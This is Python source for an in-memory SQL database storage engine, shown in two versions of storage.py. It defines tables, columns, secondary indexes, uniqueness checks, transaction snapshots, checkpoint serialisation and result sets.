        """Undo every in-place mutation since :meth:`snapshot_state`."""
        rows, auto, columns, indexes, index_states = state
        self.rows = [dict(row) for row in rows]
        self._auto_counter = auto
        self.columns = list(columns)
        self._by_name = {col.name: col for col in self.columns}
        self.indexes = dict(indexes)
        self.version += 1
        self._index_cache = {}
        for column, buckets, sorted_keys in index_states:
            index = _ColumnIndex(column)
            index.map = {
                key: [self.rows[pos] for pos in bucket]
                for key, bucket in buckets
            }
            index.sorted_keys = list(sorted_keys)
            index.version = self.version
            self._index_cache[column] = index
            self._index_stats["restores"] += 1

    # -- durability (checkpoint snapshots) --------------------------------

    def to_dict(self):
        """JSON-serializable full state (the checkpoint unit)."""
        return {
            "name": self.name,
            "columns": [col.to_dict() for col in self.columns],
            "rows": [dict(row) for row in self.rows],
            "auto_counter": self._auto_counter,
            "indexes": dict(self.indexes),
        }

    @classmethod
    def from_dict(cls, data):
        table = cls(data["name"],
                    [Column.from_dict(c) for c in data["columns"]])
        table.rows = [dict(row) for row in data.get("rows", [])]
        table._auto_counter = data.get("auto_counter", 0)
        table.indexes = dict(data.get("indexes", {}))
        return table

    # -- secondary indexes ------------------------------------------------

    def create_index(self, name, column):
        if not self.has_column(column):
            raise ExecutionError(
                "Key column '%s' doesn't exist in table" % column,
                errno=1072,
            )
        if name.lower() in self.indexes:
            raise ExecutionError(
                "Duplicate key name '%s'" % name, errno=1061
            )
        self.indexes[name.lower()] = column.lower()

    def drop_index(self, name):
        if name.lower() not in self.indexes:
            raise ExecutionError(
                "Can't DROP '%s'; check that column/key exists" % name,
                errno=1091,
            )
        del self.indexes[name.lower()]

    def indexed_columns(self):
        """Columns reachable through an index (incl. PK/unique)."""
        columns = set(self.indexes.values())
        for col in self.columns:
            if col.primary_key or col.unique:
                columns.add(col.name)
        return columns

    def _live_index(self, column):
        """The current :class:`_ColumnIndex` for *column*, building it
        only when absent or stale (version mismatch)."""
        column = column.lower()
        index = self._index_cache.get(column)
        if index is None:
            index = _ColumnIndex(column)
            self._index_cache[column] = index
        if index.version != self.version:
            index.build(self.rows, self.version)
            self._index_stats["rebuilds"] += 1
        return index

    def iter_rows(self):
        """Stored rows, lazily — the streaming scan API the plan
        layer's :class:`~repro.sqldb.plan.SeqScan` pulls from."""
        return iter(self.rows)

    def index_lookup(self, column, value):
        """Rows whose *column* equals *value* (hash-bucket access)."""
        return list(self.index_lookup_iter(column, value))

    def index_lookup_iter(self, column, value):
        """Iterator form of :meth:`index_lookup`.

        Equality follows :func:`sort_key` — the same fold the comparison
        engine applies — after storage conversion of *value*.
        """
        index = self._live_index(column)
        self._index_stats["lookups"] += 1
        key = sort_key(self.convert(column, value))
        return iter(index.map.get(key, ()))

    def index_range(self, column, low=None, high=None,
                    low_inclusive=True, high_inclusive=True):
        """Rows whose *column* falls in ``[low, high]`` (bisect scan)."""
        return list(self.index_range_iter(column, low, high,
                                          low_inclusive, high_inclusive))

    def index_range_iter(self, column, low=None, high=None,
                         low_inclusive=True, high_inclusive=True):
        """Iterator form of :meth:`index_range`.

        ``None`` bounds are open ends; NULL-valued rows never match a
        range predicate and are skipped.  Rows come back in key order.
        """
        index = self._live_index(column)
        self._index_stats["range_lookups"] += 1
        keys = index.sorted_keys
        if low is not None:
            low_key = sort_key(self.convert(column, low))
            start = (bisect_left(keys, low_key) if low_inclusive
                     else bisect_right(keys, low_key))
        else:
            start = bisect_right(keys, _NULL_KEY)
        if high is not None:
            high_key = sort_key(self.convert(column, high))
            stop = (bisect_right(keys, high_key) if high_inclusive
                    else bisect_left(keys, high_key))
        else:
            stop = len(keys)
        for key in keys[start:stop]:
            if key[0] == _NULL_KEY[0]:
                continue
            for row in index.map[key]:
                yield row

    def index_stats(self):
        """Counters the tests use to prove maintenance is incremental."""
        return dict(self._index_stats)

    def _check_unique(self, new_row, ignore_row=None):
        """PK/UNIQUE enforcement through the live index: the folded-key
        bucket narrows candidates, then the exact ``==`` filter keeps
        the original (storage-representation) equality semantics."""
        for col in self.columns:
            if not (col.primary_key or col.unique):
                continue
            value = new_row.get(col.name)
            if value is None:
                continue
            index = self._live_index(col.name)
            for row in index.map.get(sort_key(value), ()):
                if row is ignore_row or row is new_row:
                    continue
                if row.get(col.name) == value:
                    raise ExecutionError(
                        "Duplicate entry '%s' for key '%s'"
                        % (value, col.name),
                        errno=1062,
                    )

    def convert(self, column_name, value):
        col = self._by_name[column_name.lower()]
        return store_convert(value, col.type_name, col.length)

    def __len__(self):
        return len(self.rows)

    def __repr__(self):
        return "Table(%r, %d cols, %d rows)" % (
            self.name, len(self.columns), len(self.rows)
        )


class ResultSet(object):
    """Rows returned to the client: column names + list of value tuples."""

    __slots__ = ("columns", "rows")

    def __init__(self, columns, rows):
        self.columns = list(columns)
        self.rows = [tuple(r) for r in rows]

    def rows_as_dicts(self):
        return [dict(zip(self.columns, row)) for row in self.rows]

    def scalar(self):
        """First column of the first row, or ``None`` if empty."""
        if not self.rows:
            return None
        return self.rows[0][0]

    def column(self, name):
        idx = self.columns.index(name)
        return [row[idx] for row in self.rows]

    def __len__(self):
        return len(self.rows)

    def __iter__(self):
        return iter(self.rows)

    def __eq__(self, other):
        return (
            isinstance(other, ResultSet)
            and self.columns == other.columns
            and self.rows == other.rows
        )

    def __repr__(self):
        return "ResultSet(%r, %d rows)" % (self.columns, len(self.rows))
