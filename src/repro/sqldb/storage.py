"""In-memory storage engine: tables, columns, rows, result sets."""

from repro.sqldb.errors import ExecutionError
from repro.sqldb.types import store_convert


class Column(object):
    """Schema of one column."""

    __slots__ = (
        "name", "type_name", "length", "not_null", "primary_key",
        "auto_increment", "default", "unique",
    )

    def __init__(self, name, type_name, length=None, not_null=False,
                 primary_key=False, auto_increment=False, default=None,
                 unique=False):
        self.name = name.lower()
        self.type_name = type_name.upper()
        self.length = length
        self.not_null = not_null
        self.primary_key = primary_key
        self.auto_increment = auto_increment
        self.default = default
        self.unique = unique

    def __repr__(self):
        return "Column(%r, %r)" % (self.name, self.type_name)

    # -- durability (checkpoint snapshots) --------------------------------

    def to_dict(self):
        return {
            "name": self.name,
            "type_name": self.type_name,
            "length": self.length,
            "not_null": self.not_null,
            "primary_key": self.primary_key,
            "auto_increment": self.auto_increment,
            "default": self.default,
            "unique": self.unique,
        }

    @classmethod
    def from_dict(cls, data):
        return cls(
            data["name"],
            data["type_name"],
            length=data.get("length"),
            not_null=data.get("not_null", False),
            primary_key=data.get("primary_key", False),
            auto_increment=data.get("auto_increment", False),
            default=data.get("default"),
            unique=data.get("unique", False),
        )


class Table(object):
    """One table: schema plus a list of row dicts (column name → value)."""

    def __init__(self, name, columns):
        self.name = name.lower()
        self.columns = columns
        self.rows = []
        self._auto_counter = 0
        self._by_name = {col.name: col for col in columns}
        if len(self._by_name) != len(columns):
            raise ExecutionError("Duplicate column name in table %r" % name)
        #: secondary indexes: index name -> column name
        self.indexes = {}
        #: bumped on every mutation; index maps rebuild lazily
        self.version = 0
        self._index_cache = {}      # column -> (version, {key: [row,...]})

    def has_column(self, name):
        return name.lower() in self._by_name

    def column(self, name):
        return self._by_name[name.lower()]

    def column_names(self):
        return [col.name for col in self.columns]

    def insert(self, values):
        """Insert a row from a ``{column: value}`` mapping.

        Applies type conversion (including silent VARCHAR truncation),
        auto-increment, defaults, NOT NULL and UNIQUE/PRIMARY KEY checks.
        Returns the auto-increment id used (or ``None``).
        """
        row = {}
        used_auto = None
        for col in self.columns:
            if col.name in values:
                value = store_convert(
                    values[col.name], col.type_name, col.length
                )
            elif col.auto_increment:
                value = None
            elif col.default is not None:
                value = store_convert(col.default, col.type_name, col.length)
            else:
                value = None
            if value is None and col.auto_increment:
                self._auto_counter += 1
                value = self._auto_counter
                used_auto = value
            if value is None and col.not_null:
                if col.type_name in ("VARCHAR", "TEXT", "CHAR"):
                    value = ""
                elif col.type_name in ("DATETIME", "DATE"):
                    value = "0000-00-00 00:00:00"
                else:
                    value = 0
            row[col.name] = value
            if col.auto_increment and isinstance(value, int):
                self._auto_counter = max(self._auto_counter, value)
        self._check_unique(row)
        self.rows.append(row)
        self.version += 1
        return used_auto

    def touch(self):
        """Record a mutation done outside :meth:`insert` (UPDATE/DELETE
        paths mutate row dicts directly)."""
        self.version += 1

    # -- transaction snapshots --------------------------------------------

    def snapshot_state(self):
        """Everything a ROLLBACK must restore: rows, the auto-increment
        counter, *and* the mutable schema (ALTER TABLE edits columns in
        place, CREATE/DROP INDEX edits the index map in place — all of
        it must revert with the rows or a rolled-back transaction leaves
        the schema inconsistent with the restored rows)."""
        return (
            [dict(row) for row in self.rows],
            self._auto_counter,
            list(self.columns),
            dict(self.indexes),
        )

    def restore_state(self, state):
        """Undo every in-place mutation since :meth:`snapshot_state`."""
        rows, auto, columns, indexes = state
        self.rows = [dict(row) for row in rows]
        self._auto_counter = auto
        self.columns = list(columns)
        self._by_name = {col.name: col for col in self.columns}
        self.indexes = dict(indexes)
        self._index_cache = {}
        self.touch()

    # -- durability (checkpoint snapshots) --------------------------------

    def to_dict(self):
        """JSON-serializable full state (the checkpoint unit)."""
        return {
            "name": self.name,
            "columns": [col.to_dict() for col in self.columns],
            "rows": [dict(row) for row in self.rows],
            "auto_counter": self._auto_counter,
            "indexes": dict(self.indexes),
        }

    @classmethod
    def from_dict(cls, data):
        table = cls(data["name"],
                    [Column.from_dict(c) for c in data["columns"]])
        table.rows = [dict(row) for row in data.get("rows", [])]
        table._auto_counter = data.get("auto_counter", 0)
        table.indexes = dict(data.get("indexes", {}))
        return table

    # -- secondary indexes ------------------------------------------------

    def create_index(self, name, column):
        if not self.has_column(column):
            raise ExecutionError(
                "Key column '%s' doesn't exist in table" % column,
                errno=1072,
            )
        if name.lower() in self.indexes:
            raise ExecutionError(
                "Duplicate key name '%s'" % name, errno=1061
            )
        self.indexes[name.lower()] = column.lower()

    def drop_index(self, name):
        if name.lower() not in self.indexes:
            raise ExecutionError(
                "Can't DROP '%s'; check that column/key exists" % name,
                errno=1091,
            )
        del self.indexes[name.lower()]

    def indexed_columns(self):
        """Columns reachable through an index (incl. PK/unique)."""
        columns = set(self.indexes.values())
        for col in self.columns:
            if col.primary_key or col.unique:
                columns.add(col.name)
        return columns

    def index_lookup(self, column, value):
        """Rows whose *column* equals *value* (hash-map access).

        The map rebuilds when the table version moved; equality follows
        storage representation (exact match after conversion).
        """
        column = column.lower()
        cached = self._index_cache.get(column)
        if cached is None or cached[0] != self.version:
            mapping = {}
            for row in self.rows:
                mapping.setdefault(_index_key(row.get(column)), []).append(
                    row
                )
            self._index_cache[column] = (self.version, mapping)
            cached = self._index_cache[column]
        return cached[1].get(_index_key(self.convert(column, value)), [])

    def _check_unique(self, new_row, ignore_row=None):
        keys = [c.name for c in self.columns if c.primary_key or c.unique]
        for key in keys:
            value = new_row.get(key)
            if value is None:
                continue
            for row in self.rows:
                if row is ignore_row:
                    continue
                if row.get(key) == value:
                    raise ExecutionError(
                        "Duplicate entry '%s' for key '%s'" % (value, key),
                        errno=1062,
                    )

    def convert(self, column_name, value):
        col = self._by_name[column_name.lower()]
        return store_convert(value, col.type_name, col.length)

    def __len__(self):
        return len(self.rows)

    def __repr__(self):
        return "Table(%r, %d cols, %d rows)" % (
            self.name, len(self.columns), len(self.rows)
        )


def _index_key(value):
    if isinstance(value, str):
        return ("s", value.lower())
    if isinstance(value, bool):
        return ("n", float(value))
    if isinstance(value, (int, float)):
        return ("n", float(value))
    return ("x", value)


class ResultSet(object):
    """Rows returned to the client: column names + list of value tuples."""

    __slots__ = ("columns", "rows")

    def __init__(self, columns, rows):
        self.columns = list(columns)
        self.rows = [tuple(r) for r in rows]

    def rows_as_dicts(self):
        return [dict(zip(self.columns, row)) for row in self.rows]

    def scalar(self):
        """First column of the first row, or ``None`` if empty."""
        if not self.rows:
            return None
        return self.rows[0][0]

    def column(self, name):
        idx = self.columns.index(name)
        return [row[idx] for row in self.rows]

    def __len__(self):
        return len(self.rows)

    def __iter__(self):
        return iter(self.rows)

    def __eq__(self, other):
        return (
            isinstance(other, ResultSet)
            and self.columns == other.columns
            and self.rows == other.rows
        )

    def __repr__(self):
        return "ResultSet(%r, %d rows)" % (self.columns, len(self.rows))
